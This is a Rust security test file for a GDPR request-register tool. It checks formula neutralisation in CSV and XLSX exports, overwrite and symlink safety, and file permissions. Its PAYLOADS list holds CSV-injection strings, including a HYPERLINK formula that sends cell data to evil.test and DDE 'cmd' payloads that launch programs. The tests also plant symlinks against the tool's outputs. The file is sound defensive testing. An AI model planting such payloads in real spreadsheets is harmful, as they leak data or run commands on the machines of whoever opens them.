//! What leaves the app, tried as an attacker and a careless user would: formulas planted in requester data and
//! spreadsheets must reach no CSV as formulas; an output never replaces a file without --force, never follows a
//! planted symlink, never leaves a truncated file behind a failure, and nothing is recorded for a file that could
//! not be written; everything written holding personal data is readable by its owner only.

use crate::support::Register;

use std::io::Read;
use std::path::Path;

const TODAY: &str = "2026-06-30";

/// Cells a spreadsheet would run as formulas (OWASP's list: = + - @ tab CR).
const PAYLOADS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// A register with an organisation that has filled in every Art 13/14 field, and a CRM on its data map.
fn register() -> Register {
    let reg = Register::new(TODAY);
    reg.organisation(&[
        ("--name", "Acme Ltd"),
        ("--address", "1 Main Street, Dublin"),
        ("--email", "privacy@acme.test"),
        ("--purposes", "Running your account"),
        ("--categories", "Identity, contact details"),
        ("--recipients", "None"),
        ("--retention", "Six years"),
        ("--source", "You"),
        ("--automated", "None"),
    ]);
    reg.run(&["datamap", "add", "--name", "CRM", "--owner", "IT", "--holds", "Contact details"]).ok();
    reg
}

fn add(reg: &Register, kind: &str) -> String {
    reg.request().kind(kind).gdpr("IE").received("2026-06-01").who("Pat Example", "pat@example.org").add()
}

/// How many events and attachments the request has.
fn events(reg: &Register, reference: &str) -> (usize, usize) {
    let shown = reg.run(&["request", "show", reference, "--json"]).json();
    (shown["events"].as_array().unwrap().len(), shown["attachments"].as_array().unwrap().len())
}

/// An access request with something gathered, ready for `export subject`.
fn gathered(reg: &Register) -> String {
    let r = add(reg, "access");
    reg.run(&[
        "request",
        "disclose",
        &r,
        "--system",
        "CRM",
        "--category",
        "Contact",
        "--label",
        "Phone",
        "--value=+32 2 123 45 67",
    ])
    .ok();
    r
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// Every cell of a CSV, parsed as a spreadsheet would read the file.
fn cells(bytes: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(bytes);
    reader.records().flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>()).collect()
}

/// No cell of the CSV would be run as a formula, and every payload is there, quoted.
fn assert_neutralised(what: &str, bytes: &[u8], payloads: &[&str]) {
    let all = cells(bytes);
    for cell in &all {
        let plain_number =
            cell.parse::<f64>().is_ok() && cell.bytes().all(|b| b.is_ascii_digit() || b"+-.eE".contains(&b));
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || plain_number,
            "{what}: the cell {cell:?} would be a formula"
        );
    }
    for p in payloads {
        assert!(all.contains(&format!("'{p}")), "{what}: {p:?} should be written as '{p:?}; cells: {all:?}");
    }
}

fn zip_entries(path: &Path) -> Vec<(String, Vec<u8>)> {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    (0..zip.len())
        .map(|i| {
            let mut entry = zip.by_index(i).unwrap();
            let mut bytes = vec![];
            entry.read_to_end(&mut bytes).unwrap();
            (entry.name().unwrap().to_string(), bytes)
        })
        .collect()
}

#[test]
fn formula_cells_are_neutralised_in_every_csv_written() {
    let reg = register();
    // The log and the evidence pack: free-text refusal reasons.
    let refused: Vec<String> = PAYLOADS
        .iter()
        .map(|reason| {
            let r = add(&reg, "erasure");
            reg.run(&["request", "status", &r, "in-progress"]).ok();
            let reason = format!("--reason={reason}");
            reg.run(&["request", "status", &r, "refused", "--category", "excessive", &reason]).ok();
            r
        })
        .collect();
    // Typed text is trimmed when it is recorded: "\t=1+1" is kept as "=1+1" (spreadsheet cells are kept as they are).
    let typed = PAYLOADS.map(str::trim);
    let log = reg.path("log.csv");
    reg.run(&["export", "log", "--from", "2026-01-01", "--to", "2026-12-31", "--out", s(&log)]).ok();
    assert_neutralised("the log", &std::fs::read(&log).unwrap(), &typed);

    let pack = reg.path("pack.zip");
    let mut args = vec!["export", "evidence", "--out", s(&pack)];
    for r in &refused {
        args.extend(["--request", r.as_str()]);
    }
    reg.run(&args).ok();
    let entries = zip_entries(&pack);
    let (_, log_in_pack) = entries.iter().find(|(n, _)| n == "request-log.csv").unwrap();
    assert_neutralised("the evidence pack's request-log.csv", log_in_pack, &typed);

    // The XLSX log stays typed: the payloads are text cells, and the workbook holds no formula at all.
    let xlsx = reg.path("log.xlsx");
    reg.run(&["export", "log", "--from", "2026-01-01", "--to", "2026-12-31", "--out", s(&xlsx)]).ok();
    let sheets = zip_entries(&xlsx);
    let (_, sheet) = sheets.iter().find(|(n, _)| n == "xl/worksheets/sheet1.xml").unwrap();
    let sheet = String::from_utf8_lossy(sheet);
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "no formula in the spreadsheet");
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&xlsx).unwrap();
    let range = book.worksheet_range("Requests").unwrap();
    let texts: Vec<String> = range.used_cells().map(|(_, _, c)| c.to_string()).collect();
    assert!(texts.iter().any(|t| t == PAYLOADS[0]), "the text itself, exact and typed as text: {texts:?}");

    // The subject export: typed fields (data/fields.csv) and a requester's spreadsheet (tables/*.csv).
    let r = gathered(&reg);
    for (i, p) in PAYLOADS.iter().enumerate() {
        let (label, value) = (format!("Note {i}"), format!("--value={p}"));
        reg.run(&["request", "disclose", &r, "--system", "CRM", "--category", "Contact", "--label", &label, &value])
            .ok();
    }
    let sheet_file = reg.path("orders.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let ws = book.add_worksheet();
    ws.write_string(0, 0, "note").unwrap();
    ws.write_string(0, 1, "amount").unwrap();
    for (i, p) in PAYLOADS.iter().enumerate() {
        let row = u32::try_from(i).unwrap() + 1;
        ws.write_string(row, 0, *p).unwrap();
        ws.write_number(row, 1, -12.5).unwrap();
    }
    book.save(&sheet_file).unwrap();
    reg.run(&["request", "disclose", &r, "--system", "CRM", "--category", "Orders", "--file", s(&sheet_file)]).ok();
    let export = reg.path("subject.zip");
    reg.run(&["export", "subject", &r, "--out", s(&export)]).ok();
    let entries = zip_entries(&export);
    let (_, fields) = entries.iter().find(|(n, _)| n == "data/fields.csv").unwrap();
    assert_neutralised("data/fields.csv", fields, &typed);
    assert!(cells(fields).contains(&"'+32 2 123 45 67".to_string()), "a phone number is not a plain number");
    let tables: Vec<&Vec<u8>> = entries.iter().filter(|(n, _)| n.starts_with("tables/")).map(|(_, b)| b).collect();
    assert_eq!(tables.len(), 1, "one sheet, one table");
    assert_neutralised("tables/*.csv", tables[0], &PAYLOADS);
    assert!(cells(tables[0]).contains(&"-12.5".to_string()), "a negative number stays a number");

    // The import's error file: the rejected values as they were read.
    let import = reg.path("import.csv");
    let mut rows = String::from("kind,regime,calendar,received,name,email\n");
    for p in ["=1+1", "@SUM(1)", "-1+1", "+1+1"] {
        rows.push_str(&format!("{p},eu-gdpr,IE,2026-06-01,Pat,pat@example.org\n"));
    }
    std::fs::write(&import, rows).unwrap();
    let errors = reg.path("errors.csv");
    reg.run(&["import", s(&import), "--errors", s(&errors)]).ok();
    assert_neutralised(
        "the import's error file",
        &std::fs::read(&errors).unwrap(),
        &["=1+1", "@SUM(1)", "-1+1", "+1+1"],
    );
}

/// Every command that writes an --out file: its arguments before `--out`.
fn writers(reg: &Register) -> Vec<(&'static str, Vec<String>)> {
    let r = gathered(reg);
    let v = |args: &[&str]| args.iter().map(|a| a.to_string()).collect::<Vec<_>>();
    vec![
        ("log.csv", v(&["export", "log", "--from", "2026-01-01", "--to", "2026-12-31"])),
        ("log.pdf", v(&["export", "log", "--from", "2026-01-01", "--to", "2026-12-31"])),
        ("log.xlsx", v(&["export", "log", "--from", "2026-01-01", "--to", "2026-12-31"])),
        ("pack.zip", v(&["export", "evidence", "--request", &r])),
        ("subject.zip", v(&["export", "subject", &r])),
        ("deadlines.ics", v(&["calendar", "export"])),
        ("letter.pdf", v(&["template", "letter", &r, "--template", "acknowledgement"])),
    ]
}

#[test]
fn an_existing_file_is_refused_and_left_untouched_unless_forced() {
    let reg = register();
    for (name, args) in writers(&reg) {
        let out = reg.path(name);
        std::fs::write(&out, "precious").unwrap();
        let mut full: Vec<&str> = args.iter().map(String::as_str).collect();
        full.extend(["--out", s(&out)]);
        let refused = reg.run(&full);
        refused.assert_error("already exists");
        assert_eq!(std::fs::read_to_string(&out).unwrap(), "precious", "{name}: untouched");
        full.push("--force");
        reg.run(&full).ok();
        assert_ne!(std::fs::read(&out).unwrap(), b"precious", "{name}: replaced with --force");
    }
    // The import's error file, likewise.
    let import = reg.path("import.csv");
    std::fs::write(&import, "kind,regime,calendar,received,name,email\nnope,eu-gdpr,IE,2026-06-01,Pat,p@x.org\n")
        .unwrap();
    let errors = reg.path("errors.csv");
    std::fs::write(&errors, "precious").unwrap();
    reg.run(&["import", s(&import), "--errors", s(&errors)]).assert_error("already exists");
    assert_eq!(std::fs::read_to_string(&errors).unwrap(), "precious");
    reg.run(&["import", s(&import), "--errors", s(&errors), "--force"]).ok();
    assert!(std::fs::read_to_string(&errors).unwrap().contains("nope"));
    // Nothing but the outputs and the register's own files is left in the folder: no temporary file.
    let left: Vec<String> = std::fs::read_dir(reg.dir())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(left.is_empty(), "temporary files left behind: {left:?}");
}

#[cfg(unix)]
#[test]
fn planted_symlinks_are_never_followed() {
    use std::os::unix::fs::symlink;
    let reg = register();
    let victim = reg.path("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    for (name, args) in writers(&reg) {
        // The old fixed temporary name, planted beside the target.
        let partial = reg.path(format!(".{name}.partial"));
        symlink(&victim, &partial).unwrap();
        let out = reg.path(name);
        let mut full: Vec<&str> = args.iter().map(String::as_str).collect();
        full.extend(["--out", s(&out)]);
        reg.run(&full).ok();
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious", "{name}: written through .partial");
        assert!(std::fs::symlink_metadata(&partial).unwrap().file_type().is_symlink(), "{name}: left alone");

        // A symlink as the target itself: refused, and with --force replaced, not written through.
        let link = reg.path(format!("link-{name}"));
        symlink(&victim, &link).unwrap();
        let mut full: Vec<&str> = args.iter().map(String::as_str).collect();
        full.extend(["--out", s(&link)]);
        reg.run(&full).assert_error("already exists");
        full.push("--force");
        reg.run(&full).ok();
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious", "{name}: written through the target link");
        assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_file(), "{name}: the link was replaced");
    }
}

#[test]
fn a_failed_import_leaves_the_errors_file_as_it_was() {
    let reg = register();
    let errors = reg.path("errors.csv");
    std::fs::write(&errors, "precious").unwrap();
    let missing = reg.path("missing.csv");
    let garbage = reg.path("garbage.xlsx");
    std::fs::write(&garbage, b"PK\x03\x04 not a spreadsheet").unwrap();
    for source in [&missing, &garbage] {
        let failed = reg.run(&["import", s(source), "--errors", s(&errors), "--force"]);
        assert_ne!(failed.code, 0, "the import of {} should fail", source.display());
        assert_eq!(std::fs::read_to_string(&errors).unwrap(), "precious", "{}", source.display());
    }
    let fresh = reg.path("fresh-errors.csv");
    assert_ne!(reg.run(&["import", s(&missing), "--errors", s(&fresh)]).code, 0);
    assert!(!fresh.exists(), "no error file for an import that did not run");
}

#[test]
fn a_letter_that_cannot_be_written_is_not_recorded() {
    let reg = register();
    let r = add(&reg, "access");
    let before = events(&reg, &r);
    let out = reg.path("no-such-folder/letter.pdf");
    reg.run(&["template", "letter", &r, "--template", "acknowledgement", "--out", s(&out)])
        .assert_error("no-such-folder");
    assert_eq!(events(&reg, &r), before, "no attachment and no event for a letter that was not written");
    // An existing file refused: nothing recorded either.
    let taken = reg.path("taken.pdf");
    std::fs::write(&taken, "precious").unwrap();
    reg.run(&["template", "letter", &r, "--template", "acknowledgement", "--out", s(&taken)]).assert_error("exists");
    assert_eq!(events(&reg, &r), before);
    // Written: the copy and the record, once each.
    let fine = reg.path("letter.pdf");
    reg.run(&["template", "letter", &r, "--template", "acknowledgement", "--out", s(&fine)]).ok();
    assert!(std::fs::read(&fine).unwrap().starts_with(b"%PDF"));
    assert_eq!(events(&reg, &r), (before.0 + 1, before.1 + 1));
}

#[cfg(unix)]
#[test]
fn personal_data_is_readable_by_its_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let reg = register();
    let r = gathered(&reg);
    let id_scan = reg.path("passport.png");
    std::fs::write(&id_scan, b"\x89PNG not really").unwrap();
    reg.run(&["request", "attach", &r, s(&id_scan)]).ok();
    reg.run(&[
        "request",
        "verify",
        &r,
        "--method",
        "id-document",
        "--outcome",
        "verified",
        "--on",
        "2026-06-02",
        "--evidence",
        s(&id_scan),
    ])
    .ok();
    let export = reg.path("subject.zip");
    reg.run(&["export", "subject", &r, "--out", s(&export)]).ok();
    let log = reg.path("log.csv");
    reg.run(&["export", "log", "--from", "2026-01-01", "--to", "2026-12-31", "--out", s(&log)]).ok();

    let root = reg.dir();
    for file in [reg.db.clone(), root.join("r.sqlite3-wal"), export, log] {
        if file.exists() {
            assert_eq!(mode(&file), 0o600, "{}", file.display());
        }
    }
    let files = reg.files_dir();
    assert_eq!(mode(&files), 0o700, "{}", files.display());
    assert_eq!(mode(&files.join("register.json")), 0o600);
    for folder in ["attachments", "evidence"] {
        let dir = files.join(folder);
        assert_eq!(mode(&dir), 0o700, "{}", dir.display());
        for request in std::fs::read_dir(&dir).unwrap().map(|e| e.unwrap().path()) {
            assert_eq!(mode(&request), 0o700, "{}", request.display());
            for file in std::fs::read_dir(&request).unwrap().map(|e| e.unwrap().path()) {
                assert_eq!(mode(&file), 0o600, "{}", file.display());
            }
        }
    }
    // A register made world-readable by an earlier version (or a copy) is made private when opened.
    std::fs::set_permissions(&reg.db, std::fs::Permissions::from_mode(0o644)).unwrap();
    reg.run(&["request", "list", "--json"]).ok();
    assert_eq!(mode(&reg.db), 0o600);
}
